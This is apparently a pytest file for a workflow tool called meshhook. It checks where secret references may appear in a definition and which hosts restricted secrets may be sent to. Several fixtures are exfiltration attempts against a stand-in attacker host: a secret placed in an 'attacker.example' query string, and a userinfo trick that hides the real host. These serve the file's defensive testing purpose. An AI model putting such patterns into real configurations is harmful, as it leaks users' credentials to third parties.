"""Where secrets may appear in a definition (structural) and where they may go."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from meshhook.domain.secret_fields import SCRUBBED, host_problems, scrub_literals
from meshhook.domain.validation import (
    completeness_problems,
    structural_problems,
    validate_definition,
)

WEBHOOK = {"id": "hook", "type": "webhook", "config": {}}


def definition(*nodes: dict[str, Any]) -> dict[str, Any]:
    return {
        "nodes": [copy.deepcopy(WEBHOOK), *nodes],
        "edges": [{"from": "hook", "to": n["id"]} for n in nodes],
    }


def http(config: dict[str, Any], node_id: str = "call") -> dict[str, Any]:
    return {"id": node_id, "type": "http_call", "config": config}


def structural(d: dict[str, Any]) -> list[tuple[str, str]]:
    return [(p.code, p.path) for p in structural_problems(d)]


def test_literal_credentials_refuse_the_save_with_pointers_and_the_fix() -> None:
    d = definition(
        http(
            {
                "url": "https://x.example.com",
                "headers": {"Authorization": "Bearer abc", "Accept": "text/plain"},
                "auth": {"type": "bearer", "token": "abc"},
            }
        )
    )
    report = validate_definition(d)
    assert report.structural
    assert sorted((p.code, p.path) for p in report.errors) == [
        ("secret.literal_value", "/nodes/1/config/auth/token"),
        ("secret.literal_value", "/nodes/1/config/headers/Authorization"),
    ]
    message = report.errors[0].message
    assert "meshhook secrets set NAME" in message
    assert "{{ secrets.NAME }}" in message
    assert all("abc" not in p.message for p in report.errors)


def test_a_literal_webhook_hmac_secret_refuses_the_save() -> None:
    d = definition()
    d["nodes"][0]["config"]["hmac_secret"] = "s3cret"
    assert structural(d) == [("secret.literal_value", "/nodes/0/config/hmac_secret")]


@pytest.mark.parametrize(
    "value",
    [
        "{{ secrets.TOKEN }}",
        "{{secrets.TOKEN}}",
        "{{  secrets.TOKEN  }}",
        "Bearer {{ secrets.TOKEN }}",
    ],
)
def test_references_in_credential_fields_are_the_documented_way(value: str) -> None:
    d = definition(
        http(
            {
                "url": "https://x.example.com",
                "headers": {"Authorization": value, "X-Api-Key": "{{ secrets.KEY }}"},
                "query": {"api_key": "{{ secrets.KEY }}"},
                "auth": {"type": "basic", "username": "me", "password": "{{ secrets.PW }}"},
            }
        )
    )
    assert validate_definition(d).valid


@pytest.mark.parametrize(
    "value", ["{{ secrets.TOKEN }} x", "x{{ secrets.TOKEN }}", "{{ secret.TOKEN }}", 42]
)
def test_anything_beyond_a_reference_is_a_literal(value: Any) -> None:
    d = definition(http({"url": "https://x.example.com", "headers": {"X-Api-Key": value}}))
    assert ("secret.literal_value", "/nodes/1/config/headers/X-Api-Key") in structural(d)


@pytest.mark.parametrize(
    ("config", "pointer"),
    [
        ({"url": "https://attacker.example/c?k={{ secrets.API_TOKEN }}"}, "/url"),
        ({"url": "{{ secrets.BASE_URL }}/v1"}, "/url"),
        (
            {"url": "https://x.example.com", "body": {"note": ["{{ secrets.API_TOKEN }}"]}},
            "/body/note/0",
        ),
        (
            {"url": "https://x.example.com", "headers": {"X-Debug": "{{ secrets.API_TOKEN }}"}},
            "/headers/X-Debug",
        ),
        (
            {"url": "https://x.example.com", "query": {"q": "{{secrets.API_TOKEN}}"}},
            "/query/q",
        ),
        (
            {
                "url": "https://x.example.com",
                "auth": {"type": "basic", "username": "{{ secrets.U }}"},
            },
            "/auth/username",
        ),
    ],
)
def test_references_outside_credential_fields_refuse_the_save(
    config: dict[str, Any], pointer: str
) -> None:
    report = validate_definition(definition(http(config)))
    assert report.structural
    assert [(p.code, p.path) for p in report.errors] == [
        ("secret.reference_not_allowed", "/nodes/1/config" + pointer)
    ]
    assert "credential fields" in report.errors[0].message


def test_node_types_without_credential_fields_cannot_use_secrets() -> None:
    d = definition({"id": "t", "type": "transform", "config": {"expression": "'{{ secrets.X }}'"}})
    problems = structural_problems(d)
    assert [(p.code, p.path) for p in problems] == [
        ("secret.reference_not_allowed", "/nodes/1/config/expression")
    ]
    assert "transform node has no credential fields" in problems[0].message


def test_a_scrubbed_field_saves_but_blocks_publishing() -> None:
    d = definition(
        http({"url": "https://x.example.com", "auth": {"type": "bearer", "token": "***"}})
    )
    assert structural_problems(d) == []
    assert [(p.code, p.path) for p in completeness_problems(d)] == [
        ("secret.scrubbed", "/nodes/1/config/auth/token")
    ]


def hosts_of(url: str, **allowed: tuple[str, ...]) -> list[tuple[str, str]]:
    d = definition(http({"url": url, "headers": {"Authorization": "Bearer {{ secrets.TOKEN }}"}}))
    return [(p.code, p.path) for p in completeness_problems(d, allowed_hosts=allowed)]


def test_a_restricted_secret_goes_only_to_a_url_with_an_allowed_literal_host() -> None:
    assert hosts_of("https://api.example.com/v1/{{input.id}}", TOKEN=("api.example.com",)) == []
    assert hosts_of("https://eu.api.example.com/x", TOKEN=("*.example.com",)) == []
    refused = [("secret.host_not_allowed", "/nodes/1/config/url")]
    assert hosts_of("https://attacker.example/c", TOKEN=("api.example.com",)) == refused
    assert hosts_of("https://api.example.com@attacker.example/", TOKEN=("api.example.com",)) == (
        refused
    )
    assert hosts_of("https://api.example.com/x", TOKEN=()) == refused
    # only restricted secrets are listed: others go anywhere
    assert hosts_of("https://attacker.example/c", OTHER=("api.example.com",)) == []


@pytest.mark.parametrize(
    "url",
    [
        "{{ input.base_url }}/v1",
        "https://{{ input.tenant }}.example.com/v1",
        "https://api.example.com{{ input.rest }}",
        "https://api.example.com:{{ input.port }}/",
    ],
)
def test_a_restricted_secret_refuses_a_url_whose_host_a_placeholder_decides(url: str) -> None:
    d = definition(http({"url": url, "auth": {"type": "bearer", "token": "{{ secrets.TOKEN }}"}}))
    problems = host_problems(d, {"TOKEN": ("*.example.com",)})
    assert [(p.code, p.path) for p in problems] == [
        ("secret.host_not_allowed", "/nodes/1/config/url")
    ]
    assert "placeholder" in problems[0].message


def test_a_webhook_hmac_secret_is_never_sent_so_no_host_applies() -> None:
    d = definition()
    d["nodes"][0]["config"]["hmac_secret"] = "{{ secrets.HOOK }}"
    assert host_problems(d, {"HOOK": ()}) == []


def test_scrub_replaces_literals_only_and_reports_where() -> None:
    d = definition(
        http(
            {
                "url": "https://x.example.com",
                "headers": {"Authorization": "Bearer abc", "Accept": "text/plain"},
                "query": {"api_key": "{{ secrets.KEY }}"},
                "auth": {"type": "bearer", "token": {"nested": "abc"}},
            }
        )
    )
    d["nodes"][0]["config"]["hmac_secret"] = "hook-secret"
    replaced = scrub_literals(d)
    assert sorted(replaced) == [
        "/nodes/0/config/hmac_secret",
        "/nodes/1/config/auth/token",
        "/nodes/1/config/headers/Authorization",
    ]
    config = d["nodes"][1]["config"]
    assert config["headers"] == {"Authorization": SCRUBBED, "Accept": "text/plain"}
    assert config["auth"]["token"] == SCRUBBED
    assert config["query"] == {"api_key": "{{ secrets.KEY }}"}
    assert structural_problems(d) == []
    assert scrub_literals(d) == []
